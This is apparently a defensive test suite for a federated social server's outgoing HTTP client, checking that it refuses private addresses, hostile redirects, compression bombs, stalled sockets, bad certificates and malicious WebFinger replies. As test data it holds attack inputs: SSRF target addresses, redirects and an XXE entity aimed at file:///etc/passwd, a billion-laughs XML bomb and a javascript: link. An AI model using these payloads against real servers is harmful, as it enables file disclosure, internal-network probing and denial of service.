/** What other servers answer to us, tested on a whole server with its real HTTP client (cases 10, 11 and 63 to 68). */
import assert from 'node:assert/strict'
import { randomInt } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer as createTlsServer } from 'node:https'
import { createServer as createTcpServer, type Socket } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'
import { loadConfig } from '../../src/config.ts'
import { pauses } from '../../src/federation/fetch/once-per.ts'
import { fetchesInFlight } from '../../src/federation/fetch/single-flight.ts'
import { DAY, SECOND } from '../../src/lib/durations.ts'
import type { Lookup } from '../../src/lib/http/connector.ts'
import { EXPIRED_CERT, TEST_CERT, TEST_KEY } from '../../src/lib/http/fixtures/lagoon-cert.ts'
import type { SafeFetch } from '../../src/lib/http/outgoing.ts'
import { createSafeFetch, type SafeFetchOptions } from '../../src/lib/http/safe-fetch.ts'
import { createLog } from '../../src/lib/log.ts'
import { createServer, type Server } from '../../src/server.ts'
import { createTestDatabase } from '../world/databases.ts'
import { createKeyPool } from '../world/key-pool.ts'
import { jsonResponse } from '../world/peer.ts'
import { signRequest } from '../world/sign-request.ts'
import { listening } from './listening.ts'
import { hostile, stateOf } from './scene.ts'

const TYPE = { 'content-type': 'application/activity+json' }
const TOTAL_MS = 700
const MAX_ANSWER_MS = 3 * SECOND
/** Only ends a failing test. A busy machine may take long for background work. */
const DEADLINE_MS = 30 * SECOND
/** What a signer is answered whose key cannot be fetched: 401 if it never can, 429 if it cannot now. */
const REFUSED = [401, 429]

/** Starts one of our servers with the real HTTP client. */
async function startServer(
  t: TestContext,
  options: Partial<SafeFetchOptions> = {},
): Promise<Server & { fetched: string[] }> {
  const folder = mkdtempSync(join(tmpdir(), 'atoll-hostile-'))
  const database = await createTestDatabase(folder)
  const { allowPrivateAddresses = true } = options
  const http = createSafeFetch({ userAgent: 'Atoll/test', totalTimeoutMs: TOTAL_MS, ...options, allowPrivateAddresses })
  const fetched: string[] = []
  const fetch: SafeFetch = (request) => {
    fetched.push(request.url)
    return http.fetch(request)
  }
  const env = {
    ATOLL_HOST: 'lagoon.test',
    ATOLL_TRUSTED_PROXIES: 'loopback',
    ATOLL_DATABASE_URL: database.url,
    ATOLL_ALLOW_PRIVATE_ADDRESSES: allowPrivateAddresses ? 'yes' : 'no',
  }
  const doors = { fetch, keys: createKeyPool(), log: createLog({ level: 'silent' }) }
  const server = await createServer(loadConfig({ env }), doors)
  t.after(async () => {
    await server.stop()
    await http.close()
    await database.drop()
    rmSync(folder, { recursive: true, force: true })
  })
  return Object.assign(server, { fetched })
}

/** Posts a Follow signed with the key at this address, each time from another client network. */
async function postSignedBy(server: Server, keyId: string): Promise<{ status: number; ms: number; error: string }> {
  const actor =
    URL.canParse(keyId) && keyId.startsWith('http') ? `${new URL(keyId).origin}/users/x` : 'https://evil.test/x'
  const body = JSON.stringify({ id: `${actor}#1`, type: 'Follow', actor, object: 'https://lagoon.test/ap/users/1' })
  const { privatePem } = await createKeyPool().rsa()
  const url = new URL('https://lagoon.test/inbox')
  const signed = signRequest({ url, method: 'POST', body, key: { keyId, privatePem }, now: Date.now() })
  const headers = { ...signed, 'x-forwarded-for': `2001:db8:${randomInt(0x10000).toString(16)}::1` }
  const began = performance.now()
  const answer = await server.fetch(new Request(url, { method: 'POST', headers, body }), { remoteAddress: '127.0.0.1' })
  return { status: answer.status, ms: performance.now() - began, error: await answer.text() }
}

/** Asserts that each key is rejected in time, and that nothing is stored. */
async function refuses(server: Server, keyIds: Record<string, string>, statuses = REFUSED): Promise<void> {
  const before = await stateOf(server.app)
  await Promise.all(
    Object.entries(keyIds).map(async ([name, keyId]) => {
      const { status, ms, error } = await postSignedBy(server, keyId)
      assert.ok(statuses.includes(status), `${name}: ${status} ${error}`)
      assert.ok(ms < MAX_ANSWER_MS, `${name} took ${ms} ms`)
    }),
  )
  await server.settle()
  assert.deepEqual(await stateOf(server.app), before)
}

const PRIVATE = [
  '0.0.0.0', '10.0.0.1', '100.64.0.1', '127.0.0.1', '127.9.9.9', '169.254.169.254', '172.16.0.1', '192.0.0.1', '192.0.2.1',
  '192.88.99.1', '192.168.0.1', '198.18.0.1', '198.51.100.1', '203.0.113.1', '224.0.0.1', '240.0.0.1', '255.255.255.255',
  '::', '::1', '::ffff:127.0.0.1', '::127.0.0.1', '64:ff9b::7f00:1', '64:ff9b:1::1', '100::1', '2001::1', '2001:2::1',
  '2001:10::1', '2001:20::1', '2001:db8::1', '2002:7f00:1::', '3fff::1', 'fc00::1', 'fe80::1', 'ff02::1',
] // biome-ignore format: a table

test('no connection is ever made to an address that is not public (cases 10, 63)', async (t) => {
  let looked = 0
  const lookup: Lookup = (host, _, callback) => {
    looked++
    if (host === 'nowhere.test') return callback(Object.assign(new Error('no'), { code: 'ENOTFOUND' }), [])
    const n = Number(/^r(\d+)\./.exec(host)?.[1])
    const addresses = Number.isNaN(n) ? ['127.0.0.1', '10.0.0.1'] : [PRIVATE[n] as string]
    callback(
      null,
      addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 })),
    )
  }
  const server = await startServer(t, { allowPrivateAddresses: false, lookup })
  const names = PRIVATE.map((address, n) => [address, `https://r${n}.test/key`])
  // 401 is final. A connection attempt would have failed with 429, which means a retry.
  await refuses(server, Object.fromEntries([...names, ['several', 'https://several.test/key']]), [401])
  assert.ok(looked >= PRIVATE.length)
  const spellings = [
    '127.0.0.1',
    '2130706433',
    '0177.0.0.1',
    '0x7f.1',
    '127.1',
    '[::1]',
    '[::ffff:7f00:1]',
    'localhost',
  ]
  const there = (host: string) => [host, `https://${host}/key`]
  await refuses(server, Object.fromEntries(spellings.map(there)), [401])
  const odd = [
    'http://127.0.0.1/key',
    'https://r1.test:8443/key',
    'https://a@r1.test/key',
    'http://r1.test/key',
    'ftp://r1.test/',
    'gopher://r1.test/',
  ]
  await refuses(server, Object.fromEntries(odd.map((url) => [url, url])), [401])
  const before = server.fetched.length
  for (const keyId of ['data:,x', 'file:///etc/passwd', 'acct:x@y.test', 'x']) await refuses(server, { keyId }, [401])
  assert.equal(server.fetched.length, before)
  const flood = Array.from({ length: 60 }, (_, n) => [`flood ${n}`, `https://nowhere.test/${n}`])
  await refuses(server, Object.fromEntries(flood), [429])
  const tried = server.app.slot(pauses)
  assert.ok(tried.size <= tried.maxSize)
})

test('redirects that loop, leave the web or lead nowhere are not followed (cases 11, 64)', async (t) => {
  const hits: string[] = []
  const port = await listening(
    t,
    createHttpServer((request, response) => {
      hits.push(`${request.method} ${request.url}`)
      redirect(request, response)
    }),
  )
  const origin = `http://127.0.0.1:${port}`
  const redirect = ({ url = '/' }: IncomingMessage, response: ServerResponse) => {
    const targets: Record<string, string> = {
      '/self': '/self',
      '/a': '/b',
      '/b': '/a',
      '/file': 'file:///etc/passwd',
      '/gopher': 'gopher://127.0.0.1/x',
      '/ftp': 'ftp://127.0.0.1/x',
      '/data': 'data:application/activity+json,{}',
      '/userinfo': `http://good@127.0.0.1:${port}/actor`,
      '/protocol-relative': '//127.0.0.1:1/x',
      '/home': 'https://lagoon.test/actor',
      '/garbage': 'http://[',
      '/hop4': '/hop3',
      '/hop3': '/hop2',
      '/hop2': '/hop1',
      '/hop1': '/actor',
    }
    const target = targets[url]
    if (target !== undefined) return response.writeHead(url === '/hop2' ? 303 : 302, { location: target }).end()
    if (url === '/meta')
      return response
        .writeHead(200, { 'content-type': 'text/html' })
        .end('<meta http-equiv=refresh content="0;url=/actor">')
    response.writeHead(200, TYPE).end('{}')
  }
  const server = await startServer(t)
  const paths = [
    'self',
    'a',
    'file',
    'gopher',
    'ftp',
    'data',
    'userinfo',
    'protocol-relative',
    'home',
    'garbage',
    'hop4',
    'meta',
  ]
  await refuses(server, Object.fromEntries(paths.map((path) => [path, `${origin}/${path}`])))
  assert.equal(hits.filter((hit) => hit.endsWith('/self')).length, 1)
  assert.ok(!hits.includes('GET /actor'), 'a fourth redirect is not followed')
  await assert.rejects(server.app.remote.find(`${origin}/self`))
})

test('endless, compressed and malformed answers are rejected in time (cases 11, 65)', async (t) => {
  const server = await startServer(t)
  const zeros = Buffer.alloc(24 * 1_048_576)
  const packed: Record<string, [string, Buffer]> = {
    gzip: ['gzip', gzipSync(zeros)],
    br: ['br', brotliCompressSync(zeros)],
    deflate: ['deflate', deflateSync(zeros)],
    nested: ['gzip, gzip', gzipSync(gzipSync(zeros))],
    lying: ['gzip', Buffer.from('{}')],
    unknown: ['exi', Buffer.from('{}')],
  }
  const pour = (response: ServerResponse) => {
    while (!response.destroyed && response.write(' '.repeat(65_536)));
  }
  const documents = await listening(
    t,
    createHttpServer(({ url = '/' }, response) => {
      const name = url.slice(1)
      const [encoding, body] = packed[name] ?? []
      if (encoding) return response.writeHead(200, { ...TYPE, 'content-encoding': encoding }).end(body)
      if (name === 'html') return response.writeHead(200, { 'content-type': 'text/html' }).end('<html>')
      if (name === 'plain') return response.writeHead(200, { 'content-type': 'text/plain' }).end('{}')
      if (name === 'utf16')
        return response
          .writeHead(200, { 'content-type': 'application/activity+json; charset=utf-16' })
          .end(Buffer.from('{}', 'utf16le'))
      if (name === 'large') return response.writeHead(200, TYPE).end(`{"a":"${'x'.repeat(10 * 1_048_576)}"}`)
      response.writeHead(200, TYPE)
      response.on('drain', () => pour(response))
      pour(response)
    }),
  )
  const rude: Record<string, (socket: Socket) => void> = {
    headers: (socket) => repeat(socket, 'x-y: z\r\n'.repeat(100)),
    drip: (socket) =>
      drip(socket, 'HTTP/1.1 200 OK\r\ncontent-type: application/activity+json\r\ncontent-length: 5000\r\n\r\n'),
    continues: (socket) => repeat(socket, 'HTTP/1.1 100 Continue\r\n\r\n'.repeat(50)),
    http09: (socket) => socket.end('{}'),
    binary: (socket) => socket.end(Buffer.alloc(500, 0xff)),
    truncated: (socket) =>
      socket.end(
        'HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ncontent-type: application/activity+json\r\n\r\nff\r\n{}',
      ),
    short: (socket) =>
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 500\r\ncontent-type: application/activity+json\r\n\r\n{}'),
    silence: () => {},
    hangup: (socket) => socket.destroy(),
  }
  const origins = await Promise.all(
    Object.entries(rude).map(async ([name, act]) => {
      const port = await listening(
        t,
        createTcpServer((socket) => socket.once('data', () => act(socket))),
      )
      return [name, `http://127.0.0.1:${port}/x`]
    }),
  )
  const kinds = [...Object.keys(packed), 'html', 'plain', 'utf16', 'large', 'endless']
  const keyIds = Object.fromEntries([
    ...origins,
    ...kinds.map((kind) => [kind, `http://127.0.0.1:${documents}/${kind}`]),
  ])
  await refuses(server, keyIds)
  for (const url of Object.values(keyIds).slice(0, 4))
    await assert.rejects(server.app.remote.find(url as string), url as string)
})

function repeat(socket: Socket, text: string): void {
  if (socket.bytesWritten === 0) socket.write('HTTP/1.1 ')
  const more = () => {
    while (!socket.destroyed && socket.write(text));
  }
  socket.on('drain', more)
  more()
}

function drip(socket: Socket, head: string): void {
  socket.write(head)
  const timer = setInterval(() => socket.write(' '), 50)
  socket.on('close', () => clearInterval(timer))
}

test('a slow host does not delay others (case 11)', async (t) => {
  const mute = await listening(
    t,
    createTcpServer(() => {}),
  )
  const quick = await listening(
    t,
    createHttpServer((_, response) => response.writeHead(404).end()),
  )
  const server = await startServer(t)
  const slow = Array.from({ length: 300 }, (_, n) => postSignedBy(server, `http://127.0.0.1:${mute}/${n}`))
  // 401: its key was fetched and does not exist. 429 would mean that there was no slot for the fetch.
  const { status, error } = await postSignedBy(server, `http://127.0.0.1:${quick}/key`)
  assert.equal(status, 401, error)
  for (const answer of await Promise.all(slow)) assert.equal(answer.status, 429)
  assert.equal(server.app.slot(fetchesInFlight).size, 0)
})

hostile('activities that wait for a slow host let others pass (case 11)', async (scene) => {
  const { world, ana, bo, mallory, lagoon, home } = scene
  const SENT = 100
  const slow = await world.peer('slow.test')
  const { promise: released, resolve: release } = Promise.withResolvers<void>()
  slow.answer = () => released.then(() => new Response(null, { status: 404 }))
  const tag = [ana.uri, 'https://slow.test/users/x'].map((href) => ({ type: 'Mention', href }))
  for (let n = 0; n < SENT; n++) {
    const note = mallory.note(`number ${n}`, { tag, cc: [ana.uri] })
    await mallory.send(lagoon, mallory.create(note))
  }
  await bo.send(lagoon, bo.create(bo.note('hello')))
  const settled = world.settle()
  const began = performance.now()
  while ((await home()).length === 0 && performance.now() - began < DEADLINE_MS)
    await new Promise((resolve) => setTimeout(resolve, 20))
  assert.deepEqual(await home(), ['hello'], 'although the slow host has not answered yet')
  release()
  await settled
  await world.pass('5m', 20)
  const { id } = (await lagoon.app.remote.account(mallory.handle)) ?? {}
  const kept = await lagoon.app.db.selectFrom('statuses').select('id').where('account_id', '=', id).execute()
  assert.equal(kept.length, SENT, 'nothing is lost')
})

test('a server without a valid certificate gets no request (case 66)', async (t) => {
  const secure = await listening(
    t,
    createTlsServer({ cert: TEST_CERT, key: TEST_KEY }, (_, response) => response.writeHead(200, TYPE).end('{}')),
  )
  const expired = await listening(
    t,
    createTlsServer({ cert: EXPIRED_CERT, key: TEST_KEY }, (_, response) => response.writeHead(200, TYPE).end('{}')),
  )
  const mute = await listening(
    t,
    createTcpServer(() => {}),
  )
  const plain = await listening(
    t,
    createHttpServer((_, response) => response.end('{}')),
  )
  const ports: Record<string, number> = { 'mute.test': mute, 'plain.test': plain }
  const hostMap = (host: string) => ({ address: '127.0.0.1', port: ports[host] ?? secure })
  const hosts = { 'self-signed': 'lagoon2.test', mute: 'mute.test', plain: 'plain.test' }
  const keyIds = Object.fromEntries(Object.entries(hosts).map(([name, host]) => [name, `https://${host}/key`]))
  const options = { hostMap, allowPrivateAddresses: false, connectTimeoutMs: 500 }
  await refuses(await startServer(t, options), keyIds, [429])
  // The certificate is trusted, but it belongs to lagoon.test.
  await refuses(await startServer(t, { ...options, ca: TEST_CERT }), { 'wrong name': 'https://reef.test/key' }, [429])
  // Trusted, and with the right name, but expired.
  const late = { ...options, ca: EXPIRED_CERT, hostMap: () => ({ address: '127.0.0.1', port: expired }) }
  await refuses(await startServer(t, late), { expired: 'https://reef.test/key' }, [429])
})

hostile('Retry-After is obeyed within limits (case 67)', async ({ world, ana, bo, peer, lagoon }) => {
  const DAY_S = DAY / SECOND
  const odd = [
    '-1',
    '1000000000000',
    'Wed, 01 Jan 2099 00:00:00 GMT',
    'soon',
    '1e12',
    'NaN',
    '',
    '5, 6',
    '9'.repeat(400),
  ]
  const slow = await world.peer('slow.test')
  for (const [n, retryAfter] of odd.entries()) {
    const actor = await slow.actor(`s${n}`)
    slow.serve(
      actor.id,
      () => new Response(null, { status: n % 2 ? 429 : 503, headers: { 'retry-after': retryAfter } }),
    )
    const { status, headers } = await actor.post(lagoon, actor.follow(ana.uri))
    assert.equal(status, 429, retryAfter)
    const seconds = Number(headers['retry-after'])
    assert.ok(seconds >= 1 && seconds <= DAY_S, `${retryAfter} became ${headers['retry-after']}`)
  }
  await bo.send(lagoon, bo.follow(ana.uri))
  await world.settle()
  const answer = peer.answer.bind(peer)
  for (const retryAfter of odd) {
    peer.answer = async (request) =>
      request.method === 'POST'
        ? new Response(null, { status: 429, headers: { 'retry-after': retryAfter } })
        : answer(request)
    await ana.post(`with ${retryAfter}`)
    await world.settle()
    const jobs = await lagoon.app.db.selectFrom('jobs').select('run_at').where('name', '=', 'deliver').execute()
    assert.ok(jobs.length > 0)
    for (const { run_at } of jobs) assert.ok(run_at <= world.clock.now() + 1.5 * DAY, `${retryAfter}: ${run_at}`)
    await lagoon.app.db.deleteFrom('jobs').execute()
  }
  const hosts = await lagoon.app.db.selectFrom('hosts').select('paused_until').execute()
  for (const { paused_until } of hosts) assert.ok((paused_until ?? 0) <= world.clock.now() + 2 * DAY)
})

hostile('misleading WebFinger answers find nothing (case 68)', async ({ world, ana, bo, mallory }) => {
  const { peer } = mallory
  const jrd = (subject: string, href: unknown, more: object = {}) => ({
    subject,
    links: [{ rel: 'self', type: 'application/activity+json', href }],
    ...more,
  })
  const self = { rel: 'self', type: 'application/activity+json', href: mallory.id }
  const xml = (text: string) => new Response(text, { headers: { 'content-type': 'application/xrd+xml' } })
  const entities = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
  const answers: Record<string, (name: string) => object | Response> = {
    'subject of another host': () => jrd(`acct:${bo.handle}`, mallory.id),
    'self of another host': (name) => jrd(`acct:${name}@evil.test`, bo.id),
    'self of ours': (name) => jrd(`acct:${name}@evil.test`, ana.uri),
    'a new name each time': (name) => jrd(`acct:${name}x@evil.test`, mallory.id),
    '500 links before': (name) =>
      jrd(`acct:${name}@evil.test`, 'x', { links: [...Array.from({ length: 500 }, () => ({ rel: 'x' })), self] }),
    'no links': (name) => ({ subject: `acct:${name}@evil.test` }),
    'odd links': (name) => ({ subject: `acct:${name}@evil.test`, links: [null, 5, [], 'x', {}] }),
    script: (name) => jrd(`acct:${name}@evil.test`, 'javascript:alert(1)'),
    inside: (name) => jrd(`acct:${name}@evil.test`, 'https://127.0.0.1/actor'),
    number: () => ({ subject: 5, links: 'x' }),
    list: () => Response.json([], { headers: { 'content-type': 'application/jrd+json' } }),
    template: () => xml('<XRD><Link rel="lrdd" template="https://{uri}.evil.test/"/></XRD>'),
    'template within': () => xml('<XRD><Link rel="lrdd" template="https://127.0.0.1/?{uri}"/></XRD>'),
    'entity of a file': () =>
      xml(
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><XRD><Link rel="lrdd" template="https://evil.test/&a;{uri}"/></XRD>',
      ),
    'a billion laughs': () =>
      xml(
        `<!DOCTYPE x [<!ENTITY l0 "lol">${entities}]><XRD>&l12;<Link rel="lrdd" template="https://evil.test/{uri}"/></XRD>`,
      ),
    'endless tags': () => xml('<Link '.repeat(10_000)),
  }
  const answer = peer.answer.bind(peer)
  for (const [n, [name, say]] of Object.entries(answers).entries()) {
    const user = `name${n}`
    peer.answer = async (request) => {
      const { pathname } = new URL(request.url)
      if (pathname !== '/.well-known/webfinger' && pathname !== '/.well-known/host-meta') return answer(request)
      const said = say(user)
      if (!(said instanceof Response))
        return pathname.endsWith('webfinger')
          ? jsonResponse(said as never, 'application/jrd+json')
          : new Response(null, { status: 404 })
      return pathname.endsWith('webfinger') && said.headers.get('content-type')?.includes('xrd')
        ? new Response(null, { status: 404 })
        : said
    }
    const before = world.tape.exchanges.length
    const result = await ana.api('GET', `/api/v2/search?resolve=true&q=@${user}@evil.test`)
    assert.equal(result.status, 200, name)
    assert.deepEqual(result.body.accounts, [], name)
    const made = world.tape.exchanges.slice(before).filter(({ from }) => from === 'lagoon.test')
    assert.ok(made.length <= 8, `${name}: ${made.length} requests`)
    assert.ok(
      made.every(({ to }) => to !== 'lagoon.test'),
      name,
    )
  }
  assert.equal((await ana.findAccount(bo.handle)).acct, bo.handle)
})
